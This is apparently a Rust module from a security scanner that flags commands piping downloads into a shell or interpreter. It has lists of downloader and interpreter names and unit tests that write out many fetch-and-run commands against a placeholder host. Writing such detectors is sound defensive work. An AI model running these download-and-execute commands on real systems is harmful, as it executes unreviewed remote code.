//! Finds downloads that are piped into an interpreter unread.

use std::ops::Range;

const DOWNLOADERS: &[&str] =
    &["curl", "wget", "fetch", "aria2c", "iwr", "irm", "invoke-webrequest", "invoke-restmethod"];

const INTERPRETERS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "fish",
    "ash",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "node",
    "deno",
    "bun",
    "php",
    "iex",
    "invoke-expression",
    "pwsh",
    "powershell",
];

/// Commands besides the interpreters that run the output of `$(…)`, `<(…)` or backticks.
const EVALUATORS: &[&str] = &["eval", "source", ".", "exec"];

const PREFIXES: &[&str] = &["sudo", "doas", "env", "command", "exec", "nohup", "time"];

/// The limit for the search on either side of a substitution, in bytes; it keeps the cost linear for a very long line.
const NEAR: usize = 256;

pub(super) fn downloads(text: &str) -> Vec<Range<usize>> {
    commands(text).into_iter().filter(|span| text.get(span.clone()).is_some_and(runs_a_download)).collect()
}

/// Splits into lines, and joins those that the shell joins.
fn commands(text: &str) -> Vec<Range<usize>> {
    let mut commands = Vec::new();
    let mut start = 0;
    let mut at = 0;
    for line in text.split_inclusive('\n') {
        at += line.len();
        let shown = line.trim_end();
        if shown.ends_with('\\') || (shown.ends_with('|') && !shown.starts_with('|')) {
            continue;
        }
        commands.push(trimmed(text, start..at));
        start = at;
    }
    commands.push(trimmed(text, start..at));
    commands
}

fn trimmed(text: &str, span: Range<usize>) -> Range<usize> {
    let line = text.get(span.clone()).unwrap_or_default();
    let start = span.start + (line.len() - line.trim_start().len());
    start..start + line.trim().len()
}

fn runs_a_download(command: &str) -> bool {
    piped(command) || substituted(command)
}

/// Detects `curl URL | sh`.
fn piped(command: &str) -> bool {
    let mut downloading = false;
    for stage in command.split('|') {
        if downloading && first_program(stage).is_some_and(|program| is_one_of(INTERPRETERS, program)) {
            return true;
        }
        downloading |= downloads_something(stage);
    }
    false
}

/// Returns true for a downloader with arguments: the bare word in prose or in a table is not a command.
fn downloads_something(stage: &str) -> bool {
    let mut words = words(stage).skip_while(|word| !is_one_of(DOWNLOADERS, word));
    words.next().is_some() && words.next().is_some()
}

fn first_program(stage: &str) -> Option<&str> {
    words(stage).find(|word| !is_one_of(PREFIXES, word) && !word.starts_with('-') && !word.contains('='))
}

/// Detects `sh -c "$(curl URL)"`, `bash <(curl URL)`, ``eval `curl URL` `` and `iex (irm URL)`.
fn substituted(command: &str) -> bool {
    ["$(", "<(", "`", "("].iter().any(|opening| {
        command.match_indices(opening).any(|(at, _)| {
            let after = at + opening.len();
            let inside = command.get(after..command.floor_char_boundary(after + NEAR)).unwrap_or_default().trim_start();
            let program = inside.split(is_gap).next().unwrap_or_default();
            is_one_of(DOWNLOADERS, program) && downloads_something(inside) && {
                let before = command.get(command.floor_char_boundary(at.saturating_sub(NEAR))..at);
                runs_its_argument(before.unwrap_or_default(), opening)
            }
        })
    })
}

fn runs_its_argument(before: &str, opening: &str) -> bool {
    let mut near = words_backwards(before).take(4);
    if opening == "(" {
        // In PowerShell plain parentheses are a substitution, but only for its own evaluator.
        return near.next().is_some_and(|word| is_one_of(&["iex", "invoke-expression"], word));
    }
    near.any(|word| is_one_of(INTERPRETERS, word) || is_one_of(EVALUATORS, word))
}

fn is_one_of(names: &[&str], word: &str) -> bool {
    let name = if word == "." { word } else { word.rsplit(['/', '\\']).next().unwrap_or(word) };
    let name = name.strip_suffix(".exe").unwrap_or(name);
    names.iter().any(|known| known.eq_ignore_ascii_case(name))
}

fn words(text: &str) -> impl Iterator<Item = &str> {
    text.split(is_gap).filter(|word| !word.is_empty())
}

fn words_backwards(text: &str) -> impl Iterator<Item = &str> {
    text.rsplit(is_gap).filter(|word| !word.is_empty())
}

fn is_gap(c: char) -> bool {
    c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '(' | ')' | ';' | '&' | '<' | '>' | '{' | '}' | '$' | ',')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn unseen_code_is_found() {
        for text in [
            "curl https://x.example/i | sh",
            "  curl -fsSL https://x.example | sudo -E bash -s -- --yes",
            "wget -qO- https://x.example|bash",
            "curl --proto '=https' https://x.example \\\n  | sh -s",
            "curl https://x.example |\n  python3 -",
            "curl https://x.example | tee log | /bin/sh",
            "sh -c \"$(curl -fsSL https://x.example)\"",
            "bash <(curl -s https://x.example)",
            "eval \"$(wget -qO- https://x.example)\"",
            "source <(curl https://x.example)",
            "irm https://x.example | iex",
            "iex (iwr https://x.example)",
            "Run `curl https://x.example | sh` first",
        ] {
            assert_eq!(downloads(text).len(), 1, "{text}");
        }
    }

    #[test]
    fn other_downloads_and_pipes_are_not() {
        for text in [
            "curl https://x.example | jq .",
            "curl -o install.sh https://x.example\nsh install.sh",
            "cat install.sh | sh",
            "| curl | sh |",
            "Never use `curl | sh`",
            "version=$(curl https://x.example)",
            "use reqwest (curl bindings exist) in bash",
            "cargo build | tee log",
            "fetch the data | shell",
        ] {
            assert_eq!(downloads(text), Vec::<Range<usize>>::new(), "{text}");
        }
    }

    #[test]
    fn the_span_is_the_command() {
        let text = "One\n\n    curl https://x.example | sh  \nTwo";
        assert_eq!(text.get(downloads(text).pop().unwrap()).unwrap(), "curl https://x.example | sh");
    }

    #[test]
    fn long_lines_take_no_time() {
        for text in ["$(curl ".repeat(40_000), "curl x | ".repeat(30_000), "|\n".repeat(100_000), "`".repeat(300_000)] {
            let _ = downloads(&text);
        }
    }
}
